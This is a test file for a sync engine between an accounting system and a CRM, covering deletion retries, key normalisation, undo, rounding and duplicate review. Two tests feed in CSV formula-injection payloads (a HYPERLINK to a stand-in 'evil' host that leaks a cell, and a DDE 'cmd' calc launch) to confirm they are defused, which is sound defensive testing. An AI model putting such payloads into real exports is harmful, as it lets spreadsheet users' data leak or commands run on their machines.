import { describe, expect, it } from 'vitest';
import { roundHalfAwayFromZero } from '../../src/sync/plan/mapping';
import { normalizeKey } from '../../src/sync/model';
import type { RunEntry } from '../../src/sync/journal/records';
import { runLogToCsv } from '../../src/sync/journal/runLog';
import { because, renderReason } from '../../src/sync/journal/reasons';
import { memoryHarness } from '../support/memoryHarness';
import { DIVISION, accountId, seedAccounts } from '../support/memoryExact';

/** Defects found in review, each pinned by the scenario that showed it. */
describe('sync engine: review findings', () => {
  it('a deletion whose flag write failed is read again by the next incremental run', async () => {
    const h = memoryHarness();
    await h.engine.run('companies', { user: 'a' });
    h.exact.remove(DIVISION, 'Account', accountId(2));
    h.crm.reject = (_list, write) => (write.kind === 'update' && write.values.DeletedInExact === true ? 'HTTP 503 throttled' : undefined);
    const failing = await h.engine.run('companies', { user: 'a' });
    expect(failing.counts).toMatchObject({ failed: 1, flagged: 0 });
    h.crm.reject = undefined;
    const retry = await h.engine.run('companies', { user: 'a' });
    expect(retry.counts).toMatchObject({ failed: 0, flagged: 1 });
    const flagged = Object.values(h.crm.list('Companies').snapshot()).filter((v) => v.DeletedInExact === true);
    expect(flagged).toHaveLength(1);
  });

  it('a CRM key written as an upper-case GUID in braces is the same record, not a duplicate', async () => {
    expect(normalizeKey('{A0000000-0000-4000-8000-000000000001}')).toBe('a0000000-0000-4000-8000-000000000001');
    expect(normalizeKey('{not-a-guid}')).toBe('{not-a-guid}');
    const h = memoryHarness();
    const id = accountId(1);
    h.crm.list('Companies').seed({ Title: 'Bakkerij De Vries', ExactId: `{${id.toUpperCase()}}`, Phone: '+31 20 000' });
    const run = await h.engine.run('companies', { user: 'a' });
    expect(run.counts).toMatchObject({ deleted: 0, flagged: 0 });
    const forAccount = Object.values(h.crm.list('Companies').snapshot()).filter((v) => normalizeKey(v.ExactId) === id);
    expect(forAccount).toHaveLength(1);
    expect(forAccount[0].DeletedInExact ?? false).toBe(false);
  });

  it('undo refuses to remove a created item into which someone typed a value the run left empty', async () => {
    const h = memoryHarness();
    h.exact.upsert(DIVISION, 'Account', { ID: accountId(1), Phone: null });
    const run = await h.engine.run('companies', { user: 'a' });
    const list = h.crm.list('Companies');
    const [id] = Object.entries(list.snapshot()).find(([, v]) => v.ExactId === accountId(1)) ?? [];
    list.edit(Number(id), { Phone: '+31 6 12345678' });
    const undo = await h.engine.undo(run.id, { user: 'a' });
    expect(undo.status).toBe('CompletedWithErrors');
    expect(list.items.has(Number(id))).toBe(true);
    const log = await h.engine.readLog(undo.id);
    const refused = log.find((e) => e.itemId === Number(id));
    expect(refused?.action).toBe('refused');
    expect(renderReason(refused!.reason)).toContain('Phone is now "+31 6 12345678"');
  });

  it('CSV cells that would run as Excel formulas are defused; negative numbers stay numbers', () => {
    const entry = {
      exactKey: 'k', label: '=HYPERLINK("http://evil/?"&A1,"x")', action: 'update', reason: because('asWritten', 'changed'), itemId: 1, outcome: 'written',
      changes: [{ field: 'Title', before: -12.5, after: '@SUM(1+1)*cmd' }], problems: [], kept: [],
    } as unknown as RunEntry;
    const row = runLogToCsv([entry], { bom: false }).split('\r\n')[1];
    expect(row).toBe('update,written,k,"\'=HYPERLINK(""http://evil/?""&A1,""x"")",1,Title,-12.5,\'@SUM(1+1)*cmd,changed');
  });

  it('a CSV read with the other list separator than it was written with still holds no formula (Dutch Excel reads , files with ;)', () => {
    const entry = {
      exactKey: 'k', label: "Acme;=cmd|' /C calc'!A0;x", action: 'update', reason: because('asWritten', 'changed'), itemId: 1, outcome: 'written',
      changes: [{ field: 'City', before: 'Gent,=1+1,x', after: 'Gent, -12,5;@SUM(A1)' }], problems: [], kept: [],
    } as unknown as RunEntry;
    for (const [written, readWith] of [[',', ';'], [';', ',']] as const) {
      const row = runLogToCsv([entry], { bom: false, separator: written }).split('\r\n')[1];
      // Naively split on the other separator, as an Excel that takes the file for its own would,
      // quotes and all: no piece may start a formula.
      const pieces = row.split(readWith).flatMap((piece) => piece.split(written)).map((piece) => piece.replace(/^"/, ''));
      expect(pieces.filter((piece) => /^[=+@\t\r]/.test(piece) || /^-(?!\d+$)/.test(piece)), `${written} read with ${readWith}: ${row}`).toEqual([]);
      // And read as written, every value is whole: quoted, with the defusing ' as the only change.
      expect(row).toContain(`"Acme;'=cmd|' /C calc'!A0;x"`);
      expect(row).toContain(`"Gent,'=1+1,x"`);
      expect(row).toContain(`"Gent, -12,5;'@SUM(A1)"`);
    }
  });

  it('currency and number transforms round the decimal a person reads', () => {
    expect(roundHalfAwayFromZero(1.005, 2)).toBe(1.01);
    expect(roundHalfAwayFromZero(2.675, 2)).toBe(2.68);
    expect(roundHalfAwayFromZero(-1.005, 2)).toBe(-1.01);
    expect(roundHalfAwayFromZero(1e-7, 2)).toBe(0);
  });

  it('a second Exact record matching a CRM company another record of the run took goes to review, not to a new item', async () => {
    const h = memoryHarness();
    // A branch / duplicate debtor with the same KvK as account 1, and one unlinked CRM company.
    h.exact.upsert(DIVISION, 'Account', { ...seedAccounts[0], ID: accountId(99), Code: '0000099', Name: 'Bakkerij De Vries (filiaal)' });
    h.crm.list('Companies').seed({ Title: 'Bakkerij de Vries', KvkNumber: '12345678' });
    const run = await h.engine.run('companies', { user: 'a' });
    expect(run.counts.conflicts).toBe(1);
    const keys = () => Object.values(h.crm.list('Companies').snapshot()).map((v) => normalizeKey(v.ExactId));
    expect(keys()).not.toContain(accountId(99));
    const log = await h.engine.readLog(run.id);
    expect(renderReason(log.find((e) => e.exactKey === accountId(99))!.reason)).toMatch(/awaiting review: matches CRM item 1 on kvk/);
    // The admin says: a separate company. The next run creates it, once.
    await h.review.reject('companies', accountId(99), { user: 'admin' });
    const next = await h.engine.run('companies', { user: 'a', full: true });
    expect(next.counts).toMatchObject({ created: 1, conflicts: 0 });
    expect(keys().filter((k) => k === accountId(99))).toHaveLength(1);
  });

  it('undo moves the items a run created to the recycle bin, where a person can restore them', async () => {
    const h = memoryHarness();
    const run = await h.engine.run('companies', { user: 'a' });
    const list = h.crm.list('Companies');
    const created = list.items.size;
    expect(created).toBeGreaterThan(0);
    const undo = await h.engine.undo(run.id, { user: 'a' });
    expect(undo.status).toBe('Completed');
    expect((await h.runs.get(run.id))?.status).toBe('Undone');
    expect(list.items.size).toBe(0);
    expect(list.recycleBin).toHaveLength(created);
    expect(list.recycleBin.every((r) => typeof r.values.ExactId === 'string')).toBe(true);
  });
});
